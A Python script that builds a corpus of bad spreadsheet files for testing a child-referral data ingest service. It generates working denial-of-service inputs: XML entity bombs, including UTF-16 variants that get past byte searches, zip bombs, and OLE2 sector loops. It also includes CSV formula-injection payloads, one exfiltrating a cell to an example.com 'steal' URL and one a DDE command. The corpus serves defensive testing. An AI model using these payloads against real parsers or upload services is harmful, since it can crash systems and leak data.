"""Writes the corpus of bad Annex A files the ingest tests use.

Run ``python tests/bad_files/build_corpus.py`` to rebuild it; the files are checked in
so that each test reads a real file, byte for byte what a user could upload.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

import olefile
import xlwt
from msoffcrypto.format.ooxml import OOXMLFile
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P
from openpyxl import Workbook

HERE = Path(__file__).parent
REFERRAL_HEADINGS = [
    "Child Unique ID", "Gender", "Ethnicity", "Date of Birth", "Age of Child (Years)",
    "Date of referral", "Referral Source", "Referral NFA?",
    "Number of Referrals in Last 12 Months", "Allocated Team", "Allocated Worker",
]


def referral_csv(rows: list[list[str]], headings: list[str] = REFERRAL_HEADINGS) -> bytes:
    lines = [",".join(headings)] + [",".join(row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def good_referral(child: str, referred: str = "01/10/2026") -> list[str]:
    return [child, "a) Male", "a) WBRI", "05/05/2015", "11", referred, "6", "b) No", "1",
            "Team A", "Worker 1"]


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xml_bomb() -> bytes:
    """A real workbook whose sheet XML declares nested entities (billion laughs)."""
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS]})))
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    parts = {name: source.read(name) for name in source.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(
        b"<worksheet", f'<!DOCTYPE worksheet [{entities}]><worksheet'.encode(), 1
    ).replace(b"</sheetData>", b"<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&a9;</t>"
              b"</is></c></row></sheetData>", 1)
    return zip_bytes(parts)


_LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))


def _in_utf16(xml: bytes, codec: str) -> bytes:
    """The part re-encoded as UTF-16 with a byte-order mark, its declaration saying so:
    a byte search for "<!DOCTYPE" finds nothing in it, yet XML parsers read it."""
    text = xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    mark = "\ufeff".encode(codec)
    return mark + text.encode(codec)


def utf16_xml_bomb(part: str, codec: str) -> bytes:
    """A real workbook whose ``part`` declares nested entities (billion laughs), in
    UTF-16 (``codec`` "utf-16-le" or "utf-16-be", with a byte-order mark)."""
    parts = _sheet_parts()
    root = b"<workbook" if part == "xl/workbook.xml" else b"<worksheet"
    bombed = parts[part].replace(
        root, f'<!DOCTYPE {root[1:].decode()} [{_LAUGHS}]>'.encode() + root, 1)
    if part == "xl/workbook.xml":
        bombed = bombed.replace(b'name="List 3"', b'name="&a9;"', 1)
    else:
        bombed = bombed.replace(b"</sheetData>", b"<row r=\"2\"><c r=\"A2\" t=\"inlineStr\">"
                                b"<is><t>&a9;</t></is></c></row></sheetData>", 1)
    parts[part] = _in_utf16(bombed, codec)
    return zip_bytes(parts)


def zip_bomb() -> bytes:
    """A workbook with one sheet that unpacks to 600 MB of spaces."""
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS]})))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
        with archive.open("xl/worksheets/padding.xml", "w", force_zip64=True) as padding:
            block = b" " * (1 << 20)
            for _ in range(600):
                padding.write(block)
    return buffer.getvalue()


def _sheet_parts() -> dict[str, bytes]:
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS[:6]]})))
    return {name: source.read(name) for name in source.namelist()}


SHEET = "xl/worksheets/sheet1.xml"


def sparse_grid(with_dimension: bool) -> bytes:
    """Two cells, at A1 and at the last cell Excel allows: a reader that builds the whole
    grid asks for hundreds of gigabytes. With or without an honest <dimension>."""
    parts = _sheet_parts()
    sheet = parts[SHEET].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    sheet = re.sub(rb"<dimension ref=\"[^\"]*\"/>",
                   b'<dimension ref="A1:XFD1048576"/>' if with_dimension else b"", sheet)
    parts[SHEET] = sheet
    return zip_bytes(parts)


def understated_sizes() -> bytes:
    """A sheet of 13 MB whose headers claim only its first bytes, with a checksum that
    matches those bytes: Python's zipfile alone would read the prefix and call it good."""
    parts = _sheet_parts()
    honest = parts[SHEET]
    head, tail = honest.split(b"</sheetData>")
    row = b'<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c></row>'
    parts[SHEET] = head + row * 200_000 + b"</sheetData>" + tail
    content = bytearray(zip_bytes(parts))
    claimed = len(honest)
    crc = zlib.crc32(parts[SHEET][:claimed])
    for info in zipfile.ZipFile(io.BytesIO(bytes(content))).infolist():
        if info.filename == SHEET:
            struct.pack_into("<I", content, info.header_offset + 14, crc)
            struct.pack_into("<I", content, info.header_offset + 22, claimed)
    position = 0
    while (position := content.find(b"PK\x01\x02", position)) >= 0:
        length = struct.unpack_from("<H", content, position + 28)[0]
        if bytes(content[position + 46:position + 46 + length]) == SHEET.encode():
            struct.pack_into("<I", content, position + 16, crc)
            struct.pack_into("<I", content, position + 24, claimed)
        position += 4
    return bytes(content)


def ods_parts(rows: list[list[str]]) -> dict[str, bytes]:
    """The parts of a real .ods (odfpy) with one sheet, "List 3", of text cells."""
    document = OpenDocumentSpreadsheet()
    table = Table(name="List 3")
    for values in rows:
        row = TableRow()
        for value in values:
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=value))
            row.addElement(cell)
        table.addElement(row)
    document.spreadsheet.addElement(table)
    buffer = io.BytesIO()
    document.write(buffer)
    source = zipfile.ZipFile(buffer)
    return {name: source.read(name) for name in source.namelist()}


def ods_zip(parts: dict[str, bytes], padding: int = 0) -> bytes:
    """An .ods as LibreOffice packs one: "mimetype" first and stored, the rest deflated;
    ``padding`` megabytes of spaces in one more part make it a zip bomb."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), parts["mimetype"],
                         compress_type=zipfile.ZIP_STORED)
        for name, content in parts.items():
            if name != "mimetype":
                archive.writestr(name, content)
        if padding:
            with archive.open("Thumbnails/padding.xml", "w", force_zip64=True) as part:
                block = b" " * (1 << 20)
                for _ in range(padding):
                    part.write(block)
    return buffer.getvalue()


def ods_xml_bomb() -> bytes:
    """A real .ods whose content.xml declares nested entities (billion laughs) and uses
    the last in a cell."""
    parts = ods_parts([REFERRAL_HEADINGS[:6], ["C1"]])
    content = parts["content.xml"]
    root = content.index(b"<office:document-content")
    parts["content.xml"] = (content[:root] + f"<!DOCTYPE office:document-content [{_LAUGHS}]>"
                            .encode() + content[root:]).replace(b">C1<", b">&a9;<", 1)
    return ods_zip(parts)


ENCRYPTED_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" \
manifest:version="1.3">
 <manifest:file-entry manifest:full-path="/" manifest:version="1.3" \
manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" \
manifest:size="2048">
  <manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:\
manifest:1.0#sha256-1k" manifest:checksum="bm90IGEgcmVhbCBjaGVja3N1bQ==">
   <manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" \
manifest:initialisation-vector="MDEyMzQ1Njc4OWFiY2RlZg=="/>
   <manifest:start-key-generation manifest:start-key-generation-name=\
"http://www.w3.org/2000/09/xmldsig#sha256" manifest:key-size="32"/>
   <manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" \
manifest:iteration-count="100000" manifest:salt="c2FsdHNhbHRzYWx0c2FsdA=="/>
  </manifest:encryption-data>
 </manifest:file-entry>
</manifest:manifest>
"""


def encrypted_ods() -> bytes:
    """An .ods saved with a password, as LibreOffice writes one: its manifest gives each
    encrypted part's encryption data, and content.xml is ciphertext (random bytes here)."""
    parts = ods_parts([REFERRAL_HEADINGS[:6]])
    parts["META-INF/manifest.xml"] = ENCRYPTED_MANIFEST
    parts["content.xml"] = random.Random(28).randbytes(2048)  # noqa: S311 - not a secret
    return ods_zip(parts)


def encrypted_xlsx() -> bytes:
    """A real workbook encrypted by msoffcrypto-tool (password "pw"), as Excel's "Encrypt
    with Password" leaves it: an OLE2 file holding EncryptionInfo and EncryptedPackage."""
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS, good_referral("C1")]}))
              ).encrypt("pw", out)
    return out.getvalue()


def encrypted_xls(rc4: bool = True) -> bytes:
    """A real .xls (xlwt) with a FILEPASS record after its BOF record, as Excel writes an
    encrypted one: RC4 (Excel 97-2003's "Encrypt with Password") or, with ``rc4`` False,
    the older XOR obfuscation, which calamine reads as if it were plain.

    The records after it are left in clear (a reader must stop at FILEPASS anyway); the
    sheets' offsets are moved past the new record, and as much of the stream's trailing
    padding is dropped, so the stream keeps its size (olefile rewrites it in place).
    """
    book = xlwt.Workbook()
    sheet = book.add_sheet("List 3")
    for column, heading in enumerate(REFERRAL_HEADINGS):
        sheet.write(0, column, heading)
    buffer = io.BytesIO()
    book.save(buffer)
    if rc4:  # wEncryptionType 1, RC4 header 1.1: salt, verifier and its hash
        body = struct.pack("<HHH", 1, 1, 1) + random.Random(29).randbytes(48)  # noqa: S311
    else:  # wEncryptionType 0: key and verifier
        body = struct.pack("<HHH", 0, 0x1234, 0x5678)
    filepass = struct.pack("<HH", 0x002F, len(body)) + body
    ole = olefile.OleFileIO(buffer, write_mode=True)
    stream = bytearray(ole.openstream("Workbook").read())
    at = 0
    while at < len(stream):
        kind, length = struct.unpack_from("<HH", stream, at)
        if kind == 0x0085:  # BoundSheet8: where the sheet's records start
            struct.pack_into("<I", stream, at + 4,
                             struct.unpack_from("<I", stream, at + 4)[0] + len(filepass))
        if kind == 0x000A:  # the end of the workbook's own records
            break
        at += 4 + length
    if stream[-len(filepass):].strip(b"\0"):
        raise ValueError("the stream has no padding to give up")
    ole.write_stream("Workbook", bytes(stream[:20]) + filepass
                     + bytes(stream[20:len(stream) - len(filepass)]))
    ole.close()
    return buffer.getvalue()


def _referrals_xls() -> bytearray:
    """A real .xls (xlwt) with one sheet, "List 3", of referral headings and a row."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("List 3")
    for row, values in enumerate([REFERRAL_HEADINGS, good_referral("C1")]):
        for column, value in enumerate(values):
            sheet.write(row, column, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return bytearray(buffer.getvalue())


_SECTOR = 512  # xlwt writes version 3 compound files: 512-byte sectors


def _fat_entry(content: bytearray, sector: int) -> int:
    """Where the FAT says which sector follows ``sector`` (one FAT sector is enough)."""
    first_fat = struct.unpack_from("<I", content, 76)[0]
    return (first_fat + 1) * _SECTOR + 4 * sector


def fat_loop() -> bytes:
    """A real .xls whose directory's sector chain runs back to its own start: a reader
    that follows it reads the directory over and over (calamine's, for ever)."""
    content = _referrals_xls()
    first_directory = struct.unpack_from("<I", content, 48)[0]
    struct.pack_into("<I", content, _fat_entry(content, first_directory), first_directory)
    return bytes(content)


def oversized_directory_claim() -> bytes:
    """A real .xls whose directory says its workbook stream holds 4 GB, and whose chain
    of sectors for that stream runs back to its start, so that a reader believing the
    claim reads the same few sectors until it has 4 GB."""
    content = _referrals_xls()
    entry = content.index("Workbook".encode("utf-16-le"))  # its directory entry
    sector = start = struct.unpack_from("<I", content, entry + 116)[0]
    while (following := struct.unpack_from("<I", content, _fat_entry(content, sector))[0]
           ) != 0xFFFFFFFE:
        sector = following
    struct.pack_into("<I", content, _fat_entry(content, sector), start)
    struct.pack_into("<I", content, entry + 120, 0xFFFFFFF0)
    return bytes(content)


def difat_loop() -> bytes:
    """A real .xls whose header claims 1.27 billion FAT sectors, listed in a chain of
    DIFAT sectors that is one sector naming itself as the next: a reader believing it
    builds its sector table without end (olefile, copying it each time, hangs)."""
    content = _referrals_xls()
    claimed = 109 + 127 * 10_000_000
    difat = 0  # the workbook stream's first sector, overwritten
    struct.pack_into("<I", content, 44, claimed)
    struct.pack_into("<II", content, 68, difat, (claimed - 109 + 126) // 127)
    first_fat = struct.unpack_from("<I", content, 76)[0]
    struct.pack_into("<128I", content, (difat + 1) * _SECTOR,
                     *([first_fat] * 127), difat)
    return bytes(content)


def xlsb_zip_bomb() -> bytes:
    """The parts an .xlsb must have (no real binary records: the bomb is refused before
    any is read) and one part that unpacks to 420 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
                         'schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")
        with archive.open("xl/worksheets/sheet1.bin", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(420):
                part.write(block)
    return buffer.getvalue()


CORPUS: dict[str, bytes] = {
    "wrong_headings.csv": referral_csv([["C1", "M", "01/01/2015"]],
                                       ["Kid", "Sex", "Born on", "When referred"]),
    "missing_sheets.xlsx": workbook({
        "List 3": [REFERRAL_HEADINGS, good_referral("C1")],
    }),
    "text_in_dates.csv": referral_csv([good_referral("C1", "last Tuesday")]),
    "impossible_dates.csv": referral_csv([good_referral("C1", "31/02/2026")]),
    "duplicate_children.csv": referral_csv([good_referral("C1"), good_referral("C2"),
                                            good_referral("C1", "02/10/2026")]),
    "empty.csv": b"",
    "empty.xlsx": workbook({"Sheet1": []}),
    "not_a_workbook.xlsx": zip_bytes({"notes.txt": b"This is a zip of a text file."}),
    "not_a_zip.xlsx": b"Child Unique ID,Gender\r\nC1,M\r\n",
    # only the OLE2 signature, then zeros: a damaged .xls (once refused for its name)
    "old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "text_file.xls": b"Child Unique ID,Gender\r\nC1,M\r\n",
    "formula_injection.csv": referral_csv([
        ['=HYPERLINK("http://example.com/steal?"&A1;"Click")', "M", "WBRI", "05/05/2015", "11",
         "+cmd|' /C calc'!A0", "6", "N", "1", "Team A", "Worker 1"],
    ]),
    "xml_bomb.xlsx": xml_bomb(),
    "xml_bomb_utf16le_workbook.xlsx": utf16_xml_bomb("xl/workbook.xml", "utf-16-le"),
    "xml_bomb_utf16be_workbook.xlsx": utf16_xml_bomb("xl/workbook.xml", "utf-16-be"),
    "xml_bomb_utf16_sheet.xlsx": utf16_xml_bomb(SHEET, "utf-16-le"),
    "zip_bomb.xlsx": zip_bomb(),
    "sparse_grid.xlsx": sparse_grid(with_dimension=True),
    "sparse_grid_no_dimension.xlsx": sparse_grid(with_dimension=False),
    "understated_sizes.xlsx": understated_sizes(),
    "xml_bomb.ods": ods_xml_bomb(),
    "zip_bomb.ods": ods_zip(ods_parts([REFERRAL_HEADINGS[:6]]), padding=420),
    "zip_bomb.xlsb": xlsb_zip_bomb(),
    "encrypted.xlsx": encrypted_xlsx(),
    "encrypted.xls": encrypted_xls(),
    "encrypted_xor.xls": encrypted_xls(rc4=False),
    "encrypted.ods": encrypted_ods(),
    "fat_loop.xls": fat_loop(),
    "oversized_directory_claim.xls": oversized_directory_claim(),
    "difat_loop.xls": difat_loop(),
}


def main() -> None:
    """Writes every file; openpyxl and msoffcrypto stamp times and salts in theirs, so
    put back (git checkout) the files you did not mean to change."""
    for name, content in CORPUS.items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main()
